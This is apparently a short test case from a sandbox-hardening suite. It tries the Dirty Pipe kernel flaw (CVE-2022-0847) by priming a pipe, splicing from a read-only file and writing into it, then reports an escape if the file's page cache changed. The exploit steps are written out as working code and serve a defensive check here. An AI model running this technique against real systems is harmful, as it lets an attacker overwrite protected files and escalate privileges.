# does: writes to a read-only file through a pipe (CVE-2022-0847)
# expect: exited:0
import os

from attack import FACTS, escaped

path = FACTS["bound"] + "/attack.py"
with open(path, "rb") as file:
    before = file.read(4096)
reader, writer = os.pipe()
for _ in range(16):
    os.write(writer, b"x" * 4096)
    os.read(reader, 4096)
file = os.open(path, os.O_RDONLY)
try:
    os.splice(file, writer, 1, offset_src=0) if hasattr(os, "splice") else 0
except OSError:
    pass
os.write(writer, b"overwritten")
with open(path, "rb") as file:
    if file.read(4096) != before:
        escaped("the page cache was written")
